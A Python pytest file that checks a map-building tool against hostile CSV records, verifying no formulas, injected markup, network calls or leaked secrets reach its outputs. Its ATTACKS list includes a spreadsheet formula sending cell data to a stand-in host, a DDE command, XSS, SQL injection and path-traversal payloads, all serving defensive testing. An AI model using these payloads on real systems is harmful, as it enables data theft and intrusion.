"""What a record says never executes, never leaves the folder, never calls out; secrets stay in."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
REGION = "150122"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "${alert(1)}",
    "{{7*7}}",
    "`${document.cookie}`",
    "]]><script>x</script>",
    "<!--",
    "'; DROP TABLE projects; --",
    '" onload="x',
    "../../../../tmp/evil",
    "C:\\evil",
    "[% eval('x') %]",
    "%3Cscript%3E",
    "\u202egpj.exe",
    "javascript:alert(1)",
]
SECRET = "s3cr3t-key-91f4"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A region built of records that attack through every column and heading."""
    folder = tmp_path_factory.mktemp("attack")
    heads = [
        "项目编号",
        "项目名称",
        "建设地点",
        "所属旗县",
        "建设单位",
        "建设规模",
        "备注",
        '"; DROP TABLE x; --',
        "<b>列</b>",
        "=1+1",
    ]
    with (folder / "list.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(heads)
        for attack in ATTACKS:
            writer.writerow([attack, attack, "双河镇", "托克托县", *[attack] * 6])
            writer.writerow([attack, attack, attack, "托克托县", *[attack] * 6])
    blocker = folder / "sitecustomize.py"
    blocker.write_text(
        "import socket\n"
        "def refuse(*a, **k):\n    raise RuntimeError('network')\n"
        "socket.socket.connect = socket.getaddrinfo = socket.create_connection = refuse\n",
        encoding="utf-8",
    )
    command = [sys.executable, "-m", "parkatlas", "-vv", "build", REGION, "--projects", "list.csv"]
    command += ["--maps", "maps", "--formats", "geojson,gpkg,xlsx", "--jobs", "1"]
    secrets = {"PARKATLAS_TIANDITU_KEY": SECRET, "PGPASSWORD": SECRET}
    paths = f"{ROOT / 'src'}{os.pathsep}{folder}"
    done = subprocess.run(
        command,
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, **secrets, "PYTHONPATH": paths, "PARKATLAS_HOME": str(folder / "home")},
    )
    assert done.returncode == 0, done.stderr
    (folder / "stderr.txt").write_text(done.stderr + done.stdout, encoding="utf-8")
    return folder


def test_no_network_and_nothing_outside_the_folder(built: Path) -> None:
    names = {p.name for p in built.iterdir()} - {"__pycache__"}
    assert names == {"list.csv", "sitecustomize.py", "maps", "stderr.txt"}
    assert {p.name for p in (built / "maps").iterdir()} <= {REGION, "index.html", ".lock"}


def test_every_record_is_there(built: Path) -> None:
    projects = json.loads(
        (built / "maps" / REGION / "projects.geojson").read_text(encoding="utf-8")
    )
    records = {f["properties"]["name"] for f in projects["features"]}
    assert len(records) >= len(ATTACKS) - 1


def test_no_formula_in_workbooks_and_tables(built: Path) -> None:
    with zipfile.ZipFile(built / "maps" / REGION / "projects.xlsx") as archive:
        sheets = [
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")
        ]
    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    with (built / "maps" / REGION / "unlocated.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [c for c in cells if c[:1] in "=+@\t\r" and c]
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]


def test_the_database_is_whole(built: Path) -> None:
    with sqlite3.connect(built / "maps" / REGION / "atlas.gpkg") as database:
        tables = {
            row[0]
            for row in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        }
        assert "projects" in tables
        assert database.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert database.execute("SELECT count(*) FROM projects").fetchone()[0] > 0


def test_no_attack_stands_in_the_page_as_markup(built: Path) -> None:
    page = (built / "maps" / REGION / "index.html").read_text(encoding="utf-8")
    for attack in ("<img src=x", "</script><script>alert", "<b>列", "${alert(1)}", '" onload="x'):
        assert attack not in page


def test_secrets_and_home_paths_are_in_no_output(built: Path) -> None:
    for path in [*(built / "maps").rglob("*"), built / "stderr.txt"]:
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data, path
            assert str(built).encode() not in data, path
